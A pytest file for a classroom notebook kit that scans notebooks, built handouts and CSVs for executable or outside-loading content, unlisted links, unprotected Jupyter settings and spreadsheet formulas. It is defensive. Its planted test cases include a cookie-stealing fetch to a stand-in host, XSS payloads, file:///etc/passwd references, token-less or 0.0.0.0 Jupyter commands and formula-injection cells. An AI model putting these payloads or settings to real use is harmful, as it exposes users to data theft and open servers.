"""What a student opens is safe to open, and nothing tells anyone to open a door.

- Committed notebooks carry no executable HTML or JavaScript: no <script> (nor
  iframe, object, embed), no on...= event attribute, no javascript: address,
  no JavaScript output, in their outputs or in the HTML inside Markdown; and
  nothing that loads from outside when opened (an <img src="https://...">, a
  Markdown image from the web, CSS url()): links a reader clicks are fine.
- The same holds for build/: the student and teacher editions, and the
  handouts, worksheets and answer-key pages, which also carry a
  Content-Security-Policy and no <script> at all
  (built into a copy of the kit when build/ has not been built).
- Every link in a notebook points inside the kit (a file that exists) or to a
  plain https address listed in README.md.
- No document, notebook or piece of the kit's code runs Jupyter without a
  token or password, or on a public interface.
- No cell of a CSV the kit ships starts like a spreadsheet formula.
Each scanner is also run on planted examples, to show it would catch them.
"""

import csv
import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote

import nbformat
import pytest
from html_scan import SCHEME, own_scan, parsed
from nbconvert.filters import markdown2html
from repo import NOTEBOOKS, REPO

from newsfigures.pages import inert

SKIPPED_DIRS = {".git", "build", ".ci", "__pycache__", ".ipynb_checkpoints", ".pytest_cache", ".hypothesis", "node_modules"}
TEXT_SUFFIXES = {".md", ".py", ".json", ".toml", ".cfg", ".txt", ".yml", ".yaml", ".sh", ".j2", ".tpl", ".html"}
HTML_MIMES = {"text/html", "image/svg+xml", "text/markdown"}
SCRIPT_MIMES = {"application/javascript", "text/javascript", "application/x-javascript"}


# --- executable content -------------------------------------------------------------------------


def executable_html(text):
    """What the test's scanner finds, and what build's (newsfigures.pages.inert) finds."""
    return own_scan(text) + [f"inert: {what}" for what in inert.executable_pieces(text)]


def markdown_link_targets(text):
    """Every address a Markdown cell links to or loads: [..](..), [..]: .., <..>, bare URLs, href/src."""
    targets = re.findall(r"\]\(\s*<?([^)\s>]+)", text)
    targets += re.findall(r"^\s{0,3}\[[^\]]+\]:\s*<?([^\s>]+)", text, re.M)
    targets += re.findall(r"<((?:https?|ftp|mailto|javascript):[^>\s]+)>", text, re.I)
    targets += re.findall(r"\b(?:https?|ftp)://[^\s<>()\[\]\"'`]+", text, re.I)
    targets += re.findall(r"""\b(?:href|src)\s*=\s*["']?([^"'\s>]+)""", text, re.I)
    return {target.rstrip(".,;:!?") for target in targets}


def markdown_html(markdown):
    """Markdown as HTML too: a Markdown image from the web is an <img> that loads when the cell is shown."""
    return markdown + "\n" + markdown2html(markdown)


def executable_content(nb):
    """(cell number, what) for every executable or outside-loading piece of a notebook's Markdown and outputs."""
    problems = []
    for number, cell in enumerate(nb.cells, 1):
        if cell.cell_type == "markdown":
            problems += [(number, what) for what in executable_html(markdown_html(cell.source))]
            problems += [
                (number, target)
                for target in markdown_link_targets(cell.source)
                if re.sub(r"\s", "", target).lower().startswith(("javascript:", "vbscript:"))
            ]
        for output in cell.get("outputs", []):
            for mime, value in output.get("data", {}).items():
                if mime in SCRIPT_MIMES:
                    problems.append((number, f"{mime} output"))
                elif mime in HTML_MIMES:
                    text = value if isinstance(value, str) else "".join(value)
                    text = markdown_html(text) if mime == "text/markdown" else text
                    problems += [(number, f"{mime}: {what}") for what in executable_html(text)]
    return problems


# --- links ----------------------------------------------------------------------------------------


def readme_addresses(root=REPO):
    """Every https address README.md lists: the only outside addresses a notebook may link to."""
    text = (root / "README.md").read_text(encoding="utf-8")
    return {url.rstrip(".,;:!?") for url in re.findall(r"https://[^\s<>()\[\]\"'`]+", text)}


def output_link_targets(output):
    """Addresses an output shows as links: href/src in HTML, and URLs JupyterLab turns into links."""
    targets = set()
    for mime, value in output.get("data", {}).items():
        text = value if isinstance(value, str) else "".join(value) if isinstance(value, list) else ""
        if mime in HTML_MIMES:
            targets |= set(re.findall(r"""\b(?:href|src)\s*=\s*["']?([^"'\s>]+)""", text, re.I))
        if mime in HTML_MIMES | {"text/plain"}:
            targets |= set(re.findall(r"\b(?:https?|ftp)://[^\s<>()\[\]\"'`]+", text, re.I))
    if output.get("output_type") == "stream":
        targets |= set(re.findall(r"\b(?:https?|ftp)://[^\s<>()\[\]\"'`]+", output.get("text", ""), re.I))
    return {target.rstrip(".,;:!?") for target in targets}


def link_problem(target, notebook_path, root, allowed, attachments=()):
    """Why a link is not allowed, or None if it is fine."""
    if target.startswith("#"):
        return None
    scheme = SCHEME.match(target)
    if scheme:
        kind = scheme.group(1).lower()
        if kind == "https":
            return None if target in allowed else "an https address not listed in README.md"
        if kind == "data" and re.match(r"data:image/(png|jpeg|gif);", target):
            return None
        if kind == "attachment" and target.split(":", 1)[1] in attachments:
            return None
        return f"a {kind}: address (only files of the kit and https addresses listed in README.md)"
    path = unquote(target.split("#")[0].split("?")[0])
    resolved = (notebook_path.parent / path).resolve()
    if not resolved.is_relative_to(root.resolve()):
        return "a file outside the kit"
    return None if resolved.exists() else "a file that does not exist"


def link_problems(nb, notebook_path, root=REPO, allowed=None):
    allowed = readme_addresses(root) if allowed is None else allowed
    problems = []
    for number, cell in enumerate(nb.cells, 1):
        targets = markdown_link_targets(cell.source) if cell.cell_type == "markdown" else set()
        for output in cell.get("outputs", []):
            targets |= output_link_targets(output)
        for target in sorted(targets):
            problem = link_problem(target, notebook_path, root, allowed, cell.get("attachments", {}))
            if problem:
                problems.append((number, target, problem))
    return problems


# --- doors left open -----------------------------------------------------------------------------

QUOTED_EMPTY = r"""(?:''|""|\\'\\'|\\"\\")"""
# `=''`, `= ""`, `''` after a space, or `=` with nothing after it on a command line or at the end of a line.
EMPTY_VALUE = rf"""(?:\s*=\s*u?{QUOTED_EMPTY}|=(?=[\s`;,)\]]|$)|\s*=[ \t]*$|\s+{QUOTED_EMPTY}|["']\s*:\s*{QUOTED_EMPTY})"""
LOOPBACK = r"(?:127\.\d+\.\d+\.\d+|localhost|::1|\[::1\])(?![\w.:-])"
OPEN_DOORS = {
    "no token or password": re.compile(rf"\b(?:token|password|hashed_password|jupyter_token){EMPTY_VALUE}", re.I | re.M),
    "a public interface": re.compile(
        rf"""(?:--ip|\.ip\b|["']ip["']\s*:)\s*(?:=|\s)?\s*"""
        rf"""(?:{QUOTED_EMPTY}|['"]?(?!{LOOPBACK})(?:\d+\.\d+\.\d+\.\d+|\*|::|\[::\]|[a-z][\w.-]*\.[a-z]{{2,}}))""",
        re.I,
    ),
    "remote access or cross-site requests opened": re.compile(
        r"""\b(?:allow_remote_access|disable_check_xsrf|allow_unauthenticated_access)\s*=\s*True"""
        r"""|\ballow_origin\s*=\s*['"]\*['"]"""
    ),
    "a hub that lets anyone in": re.compile(
        r"""\b(?:Dummy|Null)Authenticator\b|authenticator_class\s*=\s*['"](?:dummy|null)['"]"""
    ),
}
# Instructions live in documents, notebooks and code: of the articles, data and tests (which plant
# examples), only the Markdown documents count.
NOT_INSTRUCTIONS = {"seeds", "data", "figures", "tests"}


def open_doors(text):
    """(what, matched text) for every instruction that would run Jupyter unprotected."""
    return [(what, found.group(0)) for what, pattern in OPEN_DOORS.items() for found in pattern.finditer(text)]


def kit_files(root, skipped):
    for folder, dirs, files in os.walk(root):
        dirs[:] = sorted(d for d in dirs if d not in skipped and not d.endswith(".egg-info"))
        yield from (Path(folder, name) for name in sorted(files))


def kit_texts(root=REPO):
    """(where, text) of every document, notebook cell and output, and source file of the kit."""
    for path in kit_files(root, SKIPPED_DIRS):
        where = path.relative_to(root).as_posix()
        if where.split("/")[0] in NOT_INSTRUCTIONS and path.suffix != ".md":
            continue
        if path.suffix == ".ipynb":
            for number, cell in enumerate(nbformat.read(path, as_version=4).cells, 1):
                yield f"{where} cell {number}", cell.source
                for output in cell.get("outputs", []):
                    texts = [output.get("text", "")] + [v for v in output.get("data", {}).values() if isinstance(v, str)]
                    yield f"{where} cell {number} output", "\n".join(texts)
        elif path.suffix in TEXT_SUFFIXES:
            yield where, path.read_text(encoding="utf-8", errors="replace")
    run = root / ".ci" / "run"
    if run.is_file():
        yield ".ci/run", run.read_text(encoding="utf-8")


# --- spreadsheet formulas ------------------------------------------------------------------------


def formula_like_cells(path):
    """(line, column, text) of every text cell that a spreadsheet would read as a formula."""
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    found = []
    for line, row in enumerate(rows[1:], 2):
        for column, cell in zip(rows[0], row, strict=False):  # a short row is read as far as it goes
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)  # a number such as -5 is a number to a spreadsheet too
                except ValueError:
                    found.append((line, column, cell[:60]))
    return found


# --- the kit -------------------------------------------------------------------------------------


def test_there_are_notebooks_to_scan():
    assert len(NOTEBOOKS) >= 5, [p.name for p in NOTEBOOKS]


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.stem)
def test_notebook_runs_no_code_when_opened(path):
    assert executable_content(nbformat.read(path, as_version=4)) == []


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.stem)
def test_notebook_links_stay_in_the_kit_or_go_to_listed_sources(path):
    problems = link_problems(nbformat.read(path, as_version=4), path)
    assert problems == [], "list these https addresses in README.md's sources, or fix the links"


def test_readme_lists_its_sources_as_https_addresses():
    assert readme_addresses(), "README.md lists no https address for the notebooks to link to"


def test_no_document_opens_a_door():
    found = [(where, *door) for where, text in kit_texts() for door in open_doors(text)]
    assert found == []


def test_the_door_scan_covers_the_readme_the_start_page_and_the_lab_settings():
    scanned = {where.split(" cell ")[0] for where, _ in kit_texts()}
    assert {"README.md", "notebooks/00-start-here.ipynb", "newsfigures/serving/jupyter/jupyter_lab_config.py"} <= scanned


CSV_FILES = sorted([*(REPO / "data").rglob("*.csv"), *(REPO / "seeds").glob("*.csv")])


def test_there_are_tidy_tables_to_scan():
    assert {"sources", "paragraphs", "numbers", "figures", "voices", "terms"} <= {
        p.stem for p in CSV_FILES if p.parent.name == "tidy"
    }


@pytest.mark.parametrize("path", CSV_FILES, ids=lambda p: str(p.relative_to(REPO)))
def test_no_csv_cell_starts_like_a_formula(path):
    assert formula_like_cells(path) == []


# --- build/: the editions and the handouts ---------------------------------------------------------

EDITIONS = ("student", "teacher", "handouts", "worksheets", "answer-key")
PRINTED = ("handouts", "worksheets", "class-packs", "answer-key")
# Scripts, frames, plugins and every load but embedded images and inline styles are refused.
ALLOWED_SOURCES = {"'none'", "data:", "'unsafe-inline'"}


def has_been_built(root):
    return all(any((root / "build" / part).glob("*.*")) for part in EDITIONS)


@pytest.fixture(scope="module")
def built(tmp_path_factory, make_kit_copy):
    """The kit's own build/ if it has been built, else a copy of the kit, built here."""
    if has_been_built(REPO):
        return REPO
    root = make_kit_copy(tmp_path_factory.mktemp("built") / "kit")
    result = subprocess.run(
        [sys.executable, "-m", "newsfigures", "build"],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "KIT_ROOT": str(root)},
    )
    assert result.returncode == 0, result.stderr
    return root


def policy_problems(html):
    """What is missing or too loose in a page's Content-Security-Policy."""
    metas = [dict(attrs) for tag, attrs in parsed(html).tags if tag == "meta"]
    policies = [meta.get("content", "") for meta in metas if meta.get("http-equiv", "").lower() == "content-security-policy"]
    if len(policies) != 1:
        return [f"{len(policies)} Content-Security-Policy <meta> tags (one is wanted)"]
    directives = {part.split()[0].lower(): part.split()[1:] for part in policies[0].split(";") if part.split()}
    problems = [] if directives.get("default-src") == ["'none'"] else ["default-src is not 'none'"]
    problems += [
        f"{name} allows {source}"
        for name, sources in directives.items()
        for source in sources
        if source not in ALLOWED_SOURCES or (name in ("default-src", "script-src") and source != "'none'")
    ]
    return problems


@pytest.mark.slow
def test_built_editions_run_no_code_when_opened(built):
    notebooks = sorted((built / "build").glob("*/*.ipynb"))
    assert {p.parent.name for p in notebooks} == {"student", "teacher"}
    found = [
        (p.relative_to(built).as_posix(), *problem)
        for p in notebooks
        for problem in executable_content(nbformat.read(p, as_version=4))
    ]
    assert found == [], "fix the notebook, then run `python -m newsfigures build`"


@pytest.mark.slow
def test_printed_pages_run_nothing_load_nothing_and_say_so(built):
    """Handouts, worksheets and answer-key pages alike."""
    handouts = sorted(p for folder in PRINTED for p in (built / "build" / folder).glob("*.html"))
    for folder in ("handouts", "answer-key"):
        assert {p.stem for p in NOTEBOOKS} <= {p.stem for p in handouts if p.parent.name == folder}
    assert any(p.parent.name == "worksheets" for p in handouts)
    found = {}
    for path in handouts:
        html = path.read_text(encoding="utf-8")
        problems = executable_html(html) + policy_problems(html) + (["<script"] if "<script" in html.lower() else [])
        if problems:
            found[path.relative_to(built).as_posix()] = problems
    assert found == {}, "run `python -m newsfigures build` (a build/ from before the handouts were locked down?)"


# --- the scanners catch planted examples ---------------------------------------------------------


def planted_notebook(markdown="", html=None, mime="text/html"):
    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_markdown_cell(markdown))
    if html is not None:
        cell = nbformat.v4.new_code_cell("show()")
        cell.outputs = [nbformat.v4.new_output("display_data", data={mime: html, "text/plain": "x"})]
        nb.cells.append(cell)
    return nb


@pytest.mark.parametrize(
    "nb",
    [
        planted_notebook(html="<p>chart</p><script>fetch('https://example.org/?'+document.cookie)</script>"),
        planted_notebook(html='<img src="x" onerror="alert(1)">'),
        planted_notebook(html='<img src="x" ONLOAD = "alert(1)">'),
        planted_notebook(html='<a href=" java\tscript:alert(1)">click</a>'),
        planted_notebook(html="<svg><script>alert(1)</script></svg>", mime="image/svg+xml"),
        planted_notebook(html="alert(1)", mime="application/javascript"),
        planted_notebook(html='<iframe src="https://example.org"></iframe>'),
        planted_notebook(markdown="[click here](javascript:alert(1))"),
        planted_notebook(markdown="<details><summary>Model answer</summary><img src=x onerror=alert(1)></details>"),
        planted_notebook(html='<img alt="a tracking pixel" src="https://www.example.org/listed-article/p.png">'),
        planted_notebook(markdown="A chart: ![chart](https://www.example.org/listed-article/chart.png)"),
        planted_notebook(html="Read on: ![chart](//tracker.example.com/c.png)", mime="text/markdown"),
        planted_notebook(html='<div style="background: url(https://tracker.example.com/b.png)">x</div>'),
        planted_notebook(html='<svg><image href="https://tracker.example.com/i.png"/></svg>', mime="image/svg+xml"),
    ],
    ids=[
        "script",
        "onerror",
        "onload",
        "javascript-href",
        "svg-script",
        "js-output",
        "iframe",
        "markdown-javascript-link",
        "markdown-html-onerror",
        "outside-img-even-if-listed",
        "markdown-web-image",
        "markdown-output-web-image",
        "css-url",
        "svg-image-href",
    ],
)
def test_executable_scan_catches_planted_code(nb):
    assert executable_content(nb)


def test_executable_scan_passes_what_the_kit_uses():
    nb = planted_notebook(
        markdown="<details><summary>Model answer</summary>\n\nThe *share* is a lower bound.\n\n</details>"
        " Events on 2 October; based on=this; [next](02-chart-the-figures.ipynb), [the article]"
        "(https://www.example.org/listed-article/), ![a chart](../figures/chart.png), ![pasted](attachment:a.png)",
        html='<img alt="A chart: onset of the ratio" src="data:image/png;base64,iVBORw0KGgo=">'
        '<table class="dataframe"><tr style="text-align: right;"><td>one=1</td></tr></table>'
        '<a href="https://www.example.org/listed-article/">a link a reader clicks</a>',
    )
    assert executable_content(nb) == []


# Each scanner on its own catches every planted piece: the test's, and the one `build` uses.
PLANTED_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=x.js></script>",
    "<script/src=x.js></script>",
    '<img src=x onerror="alert(1)">',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<b>x</b>">x</a>',
    '<iframe src="a.html"></iframe>',
    '<object data="x.svg"></object>',
    '<embed src="x.swf">',
    '<iframe srcdoc="<p>x</p>"></iframe>',
    '<img src="https://tracker.example.com/p.png">',
    '<img src="http://tracker.example.com/p.png">',
    '<img src="//tracker.example.com/p.png">',
    '<img src="/etc/passwd">',
    '<img src="file:///etc/passwd">',
    '<img srcset="a.png 1x, https://tracker.example.com/p.png 2x">',
    '<video poster="https://t.example/p.png"></video>',
    '<link rel="stylesheet" href="https://t.example/a.css">',
    '<style>@import "https://t.example/a.css";</style>',
    '<style>p { background: url("https://t.example/b.png") }</style>',
    '<p style="background:url(//t.example/b)">x</p>',
    '<meta http-equiv="refresh" content="0; url=https://t.example/">',
    '<base href="https://t.example/">',
    '<svg><image xlink:href="https://t.example/i.png"/></svg>',
    '<form action="javascript:alert(1)"></form>',
]


@pytest.mark.parametrize("html", PLANTED_HTML)
def test_each_scanner_catches_every_planted_piece(html):
    assert own_scan(html), "the test's scanner missed it"
    assert inert.executable_pieces(html), "build's scanner (newsfigures.pages.inert) missed it"


@pytest.mark.parametrize(
    "html",
    [
        '<img alt="chart" src="data:image/png;base64,iVBORw0KGgo=">',
        '<a href="https://example.org/a">a click</a>',
        '<a href="03-read-and-discuss.html#Key-points">next</a>',
        '<img src="../figures/x.png" alt="x">',
        "<p>Write on=that, javascript: is a language, url(x) and @import are words here.</p>",
        "<style>.x { background: url(data:image/svg+xml;base64,PHN2Zz4=) }</style>",
        '<h2 id="Key-points">Key points<a class="anchor-link" href="#Key-points">¶</a></h2>',
    ],
)
def test_neither_scanner_objects_to_what_the_kit_shows(html):
    assert own_scan(html) == [] and inert.executable_pieces(html) == []


def test_policy_check_catches_a_missing_or_loose_policy():
    meta = '<meta http-equiv="Content-Security-Policy" content="{}">'
    strict = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; base-uri 'none'"
    assert policy_problems(f"<head>{meta.format(strict)}</head>") == []
    assert policy_problems("<head><title>x</title></head>")
    for loose in (
        "default-src 'self'",
        f"{strict}; script-src 'unsafe-inline'",
        f"{strict}; img-src data: https:",
        "img-src data:",
    ):
        assert policy_problems(f"<head>{meta.format(loose)}</head>"), loose


LISTED = "https://www.example.org/listed-article/"


@pytest.mark.parametrize(
    "target, problem",
    [
        ("http://www.example.org/listed-article/", "a http: address"),
        ("https://www.example.org/not-listed", "not listed"),
        ("javascript:alert(1)", "a javascript: address"),
        ("mailto:someone@example.org", "a mailto: address"),
        ("file:///etc/passwd", "a file: address"),
        ("99-no-such-notebook.ipynb", "does not exist"),
        ("../../outside.txt", "outside the kit"),
    ],
)
def test_link_scan_catches_planted_links(target, problem):
    nb = planted_notebook(markdown=f"See [this]({target}) and [the start page](00-start-here.ipynb).")
    found = link_problems(nb, REPO / "notebooks" / "99-planted.ipynb", REPO, {LISTED})
    assert [p for _, t, p in found if target.startswith(t) and problem in p], found


def test_link_scan_catches_planted_output_and_bare_links():
    nb = planted_notebook(
        markdown="Read it at https://news.example.com/story.", html='<a href="http://tracker.example.com/x">source</a>'
    )
    found = {t for _, t, _ in link_problems(nb, REPO / "notebooks" / "99-planted.ipynb", REPO, {LISTED})}
    assert found == {"https://news.example.com/story", "http://tracker.example.com/x"}


def test_link_scan_passes_kit_files_anchors_and_listed_addresses():
    nb = planted_notebook(
        markdown=f"[start](00-start-here.ipynb), [data](../data/tidy/figures.csv), "
        f"[below](#key-points), [article]({LISTED}), <{LISTED}>"
    )
    assert link_problems(nb, REPO / "notebooks" / "99-planted.ipynb", REPO, {LISTED}) == []


@pytest.mark.parametrize(
    "text",
    [
        "jupyter lab --IdentityProvider.token=''",
        'jupyter lab --IdentityProvider.token=""',
        "jupyter lab --IdentityProvider.token= --port 8888",
        "jupyter notebook --NotebookApp.token='' --NotebookApp.password=''",
        "jupyter server --ServerApp.token ''",
        "c.ServerApp.token = ''",
        'c.PasswordIdentityProvider.hashed_password = ""',
        "JUPYTER_TOKEN='' jupyter lab",
        "jupyter lab --ip=0.0.0.0",
        "jupyter lab --ip 0.0.0.0",
        "jupyter lab --ServerApp.ip='*'",
        'c.ServerApp.ip = "0.0.0.0"',
        "jupyter lab --ip=:: --port 80",
        "jupyter lab --ip=192.168.1.20",
        "jupyter lab --ip=''",
        "jupyter lab --ip=lab.school.example.org",
        '{"ServerApp": {"token": "", "ip": "0.0.0.0"}}',
        "c.ServerApp.allow_remote_access = True",
        "c.ServerApp.disable_check_xsrf = True",
        "c.ServerApp.allow_origin = '*'",
        "c.JupyterHub.authenticator_class = 'dummy'",
        "c.JupyterHub.authenticator_class = DummyAuthenticator",
    ],
)
def test_door_scan_catches_planted_instructions(text):
    assert open_doors(text)


@pytest.mark.parametrize(
    "text",
    [
        "python -m newsfigures lab --port 8890",
        "jupyter lab --ip=127.0.0.1 --ServerApp.ip=localhost",
        "Keep the token: the ServerApp.token is what protects the server.",
        "JupyterHub gives every student a password of their own.",
        "c.ServerApp.token = os.environ['CLASS_TOKEN']",
        "url = f'{base}/lab?token={token}'",
        '{"ServerApp": {"ip": "127.0.0.1"}}',
        "jupyter lab --ip='127.0.0.1'",
        "The ip address of the classroom is not needed.",
    ],
)
def test_door_scan_passes_safe_instructions(text):
    assert open_doors(text) == []


def test_formula_scan_catches_planted_cells(tmp_path):
    path = tmp_path / "planted.csv"
    path.write_text(
        "id,text,value\n"
        'a,"=HYPERLINK(""https://example.org"",""click"")",1\n'
        "b,+1+2,-5\n"
        "c,@SUM(A1:A3),+44\n"
        "d,-2+3,3.5\n"
        "e,'=1+1 (neutralised),0\n"
        "f,a dash - inside,-0.5\n",
        encoding="utf-8",
    )
    assert formula_like_cells(path) == [
        (2, "text", '=HYPERLINK("https://example.org","click")'),
        (3, "text", "+1+2"),
        (4, "text", "@SUM(A1:A3)"),
        (5, "text", "-2+3"),
    ]
